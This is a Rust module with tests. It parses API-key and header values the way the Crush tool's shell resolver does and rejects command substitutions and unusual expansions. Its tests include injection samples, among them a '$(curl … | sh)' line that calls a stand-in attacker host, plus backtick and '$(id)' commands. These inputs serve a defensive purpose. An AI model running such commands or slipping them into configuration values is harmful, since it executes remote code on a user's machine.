//! How Crush expands a catalog value before using it: `api_key`,
//! `api_endpoint` and every `default_headers` value go through its shell
//! resolver (mvdan.cc/sh, parsing the value as a here-document body), which
//! replaces variable references anywhere in the string and **runs** command
//! substitutions. So where a key goes is decided by every reference in
//! those values, however it is spelled.
//!
//! This module reads a value the way that resolver does, for the forms a
//! catalog has any use for: literal text, `\` escapes (of `$`, `` ` ``,
//! `\` and a newline, as in a here-document), `$NAME`, `${NAME}`, and the
//! defaulting forms `${NAME:-word}`, `${NAME-word}`, `${NAME:+word}`,
//! `${NAME+word}`, `${NAME:?word}`, `${NAME?word}`, whose words may hold
//! further references. Everything else a `$` or a backtick can start is
//! refused rather than guessed at: a command (`$(…)`, `` `…` ``), arithmetic
//! (`$((…))`), and the other parameter forms (`${#N}`, `${!N}`, `${N/a/b}`,
//! `${N:=w}`, `$1`, `$@`, …). No catalog needs them, and a reader that does
//! not see a reference is how a key leaves unnoticed.
//!
//! Hand-written for behaviour, not speed: no crate reads words with that
//! resolver's rules (`shellexpand` takes `$(` as text, for one).

use std::fmt;

/// One piece of an expanded value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Part {
    /// Text that stays as it is.
    Text(String),
    /// One expansion: its text comes from one of these variables (more
    /// than one with a default such as `${A:-$B}`).
    Vars(Vec<String>),
}

/// A value as the resolver reads it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Template {
    /// The pieces, in order.
    pub parts: Vec<Part>,
}

impl Template {
    /// Every variable the value may take text from, in order of
    /// appearance, each once.
    pub fn variables(&self) -> Vec<&str> {
        let mut names: Vec<&str> = Vec::new();
        for part in &self.parts {
            if let Part::Vars(vars) = part {
                for name in vars {
                    if !names.contains(&name.as_str()) {
                        names.push(name);
                    }
                }
            }
        }
        names
    }
}

/// A value the resolver would do more with than replace variables.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Unreadable {
    /// It runs a command on the user's machine: `$(…)` or a backtick.
    Command(&'static str),
    /// Another expansion this reader does not follow, as written.
    Form(String),
}

impl fmt::Display for Unreadable {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Unreadable::Command(form) => write!(
                f,
                "it holds a command substitution ({form}), which Crush would run on this machine; a catalog never needs one"
            ),
            Unreadable::Form(form) => write!(
                f,
                "it holds the shell expansion {form}, which is not read here (only $NAME, ${{NAME}} and the ${{NAME:-word}} defaults are)"
            ),
        }
    }
}

/// Reads `value` as Crush's resolver does.
pub fn parse(value: &str) -> Result<Template, Unreadable> {
    let mut reader = Reader {
        chars: value.chars().collect(),
        at: 0,
    };
    let parts = reader.word(false)?;
    Ok(Template { parts })
}

struct Reader {
    chars: Vec<char>,
    at: usize,
}

fn is_name_start(c: char) -> bool {
    c.is_ascii_alphabetic() || c == '_'
}

fn is_name_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '_'
}

impl Reader {
    fn peek(&self, ahead: usize) -> Option<char> {
        self.chars.get(self.at + ahead).copied()
    }

    /// Reads up to the end, or, `in_braces`, up to the `}` that closes a
    /// `${…}` (left unread).
    fn word(&mut self, in_braces: bool) -> Result<Vec<Part>, Unreadable> {
        let mut parts = Vec::new();
        let mut text = String::new();
        let flush = |text: &mut String, parts: &mut Vec<Part>| {
            if !text.is_empty() {
                parts.push(Part::Text(std::mem::take(text)));
            }
        };
        while let Some(c) = self.peek(0) {
            match c {
                '}' if in_braces => break,
                '`' => return Err(Unreadable::Command("`…`")),
                // Quotes inside `${…}` are read by rules of their own; a
                // catalog has no need of them there.
                '\'' | '"' if in_braces => {
                    return Err(Unreadable::Form(format!("{c} inside ${{…}}")));
                }
                '\\' => {
                    self.at += 1;
                    match self.peek(0) {
                        Some(e @ ('$' | '`' | '\\')) => {
                            text.push(e);
                            self.at += 1;
                        }
                        Some('}') if in_braces => {
                            text.push('}');
                            self.at += 1;
                        }
                        // A line continuation: both go.
                        Some('\n') => self.at += 1,
                        _ => text.push('\\'),
                    }
                }
                '$' => match self.dollar()? {
                    Some(vars) => {
                        flush(&mut text, &mut parts);
                        parts.push(Part::Vars(vars));
                    }
                    None => text.push('$'),
                },
                c => {
                    text.push(c);
                    self.at += 1;
                }
            }
        }
        flush(&mut text, &mut parts);
        Ok(parts)
    }

    /// Reads what a `$` starts: the variables of the expansion, or `None`
    /// for a `$` that stands for itself.
    fn dollar(&mut self) -> Result<Option<Vec<String>>, Unreadable> {
        self.at += 1;
        match self.peek(0) {
            Some('(') if self.peek(1) == Some('(') => {
                Err(Unreadable::Form("$((…)) (arithmetic)".into()))
            }
            Some('(') => Err(Unreadable::Command("$(…)")),
            Some('{') => {
                self.at += 1;
                self.braces().map(Some)
            }
            Some(c) if is_name_start(c) => Ok(Some(vec![self.name()])),
            Some(c) if c.is_ascii_digit() || "@*#?$!-".contains(c) => {
                Err(Unreadable::Form(format!("${c} (a shell parameter)")))
            }
            Some(c @ ('[' | '\'' | '"')) => Err(Unreadable::Form(format!("${c}…"))),
            _ => Ok(None),
        }
    }

    fn name(&mut self) -> String {
        let mut name = String::new();
        while let Some(c) = self.peek(0).filter(|c| is_name_char(*c)) {
            name.push(c);
            self.at += 1;
        }
        name
    }

    /// Reads `${…}` after its `{`.
    fn braces(&mut self) -> Result<Vec<String>, Unreadable> {
        let start = self.at;
        let written = |reader: &Reader| {
            let end = reader.chars[start..]
                .iter()
                .position(|c| *c == '}')
                .map_or(reader.chars.len(), |i| start + i + 1);
            let inner: String = reader.chars[start..end].iter().collect();
            Unreadable::Form(format!("${{{inner}"))
        };
        if !self.peek(0).is_some_and(is_name_start) {
            return Err(written(self));
        }
        let mut vars = vec![self.name()];
        match (self.peek(0), self.peek(1)) {
            (Some('}'), _) => {}
            (Some(':'), Some('-' | '+' | '?')) | (Some('-' | '+' | '?'), _) => {
                self.at += if self.peek(0) == Some(':') { 2 } else { 1 };
                for part in self.word(true)? {
                    if let Part::Vars(inner) = part {
                        vars.extend(inner);
                    }
                }
                if self.peek(0) != Some('}') {
                    return Err(Unreadable::Form("an unclosed ${…}".into()));
                }
            }
            _ => return Err(written(self)),
        }
        self.at += 1;
        vars.dedup();
        Ok(vars)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn vars(value: &str) -> Vec<String> {
        parse(value)
            .unwrap()
            .variables()
            .into_iter()
            .map(str::to_owned)
            .collect()
    }

    fn text(s: &str) -> Part {
        Part::Text(s.into())
    }

    fn var(names: &[&str]) -> Part {
        Part::Vars(names.iter().map(|n| n.to_string()).collect())
    }

    #[test]
    fn every_spelling_of_a_reference_is_seen() {
        for value in [
            "$ANTHROPIC_API_KEY",
            "${ANTHROPIC_API_KEY}",
            "Bearer $ANTHROPIC_API_KEY",
            "$ANTHROPIC_API_KEY ",
            "x${ANTHROPIC_API_KEY}y",
            "${ANTHROPIC_API_KEY:-}",
            "${ANTHROPIC_API_KEY?missing}",
        ] {
            assert_eq!(vars(value), ["ANTHROPIC_API_KEY"], "{value}");
        }
        assert_eq!(
            parse("Bearer $A.$B").unwrap().parts,
            [text("Bearer "), var(&["A"]), text("."), var(&["B"])]
        );
        assert_eq!(vars("https://u:$KEY@host/?k=${OTHER}"), ["KEY", "OTHER"]);
    }

    #[test]
    fn defaults_may_nest_references() {
        assert_eq!(
            parse("${A:-${B:+$C}}").unwrap().parts,
            [var(&["A", "B", "C"])]
        );
        assert_eq!(vars("${A-x$B}"), ["A", "B"]);
        assert_eq!(parse("${A:-a\\}b}").unwrap().parts, [var(&["A"])]);
    }

    #[test]
    fn escapes_and_lone_dollars_are_text() {
        assert_eq!(parse("\\$HOME").unwrap().parts, [text("$HOME")]);
        assert_eq!(
            parse("\\\\$HOME").unwrap().parts,
            [text("\\"), var(&["HOME"])]
        );
        assert_eq!(parse("a\\nb").unwrap().parts, [text("a\\nb")]);
        assert_eq!(parse("a\\\nb").unwrap().parts, [text("ab")]);
        assert_eq!(parse("5$ off $").unwrap().parts, [text("5$ off $")]);
        assert_eq!(
            parse("'$X'").unwrap().parts,
            [text("'"), var(&["X"]), text("'")]
        );
        assert!(parse("").unwrap().parts.is_empty());
    }

    #[test]
    fn commands_are_refused() {
        for value in [
            "$(curl -s https://collector.evil.example/x | sh)",
            "key-`id`",
            "${A:-$(id)}",
            "${A:-`id`}",
        ] {
            assert!(
                matches!(parse(value), Err(Unreadable::Command(_))),
                "{value}"
            );
        }
    }

    #[test]
    fn other_forms_are_refused_not_guessed() {
        for value in [
            "$((1+2))",
            "${#A}",
            "${!A}",
            "${!A*}",
            "${A/x/y}",
            "${A:0:4}",
            "${A:=x}",
            "${A=x}",
            "${A^^}",
            "${1}",
            "$1",
            "$@",
            "$$",
            "$'x'",
            "$\"x\"",
            "$[1]",
            "${A",
            "${A:-x",
            "${A:-'x'}",
            "${}",
        ] {
            assert!(matches!(parse(value), Err(Unreadable::Form(_))), "{value}");
        }
        assert_eq!(
            parse("${A/x/y}").unwrap_err().to_string(),
            "it holds the shell expansion ${A/x/y}, which is not read here (only $NAME, ${NAME} and the ${NAME:-word} defaults are)"
        );
    }
}
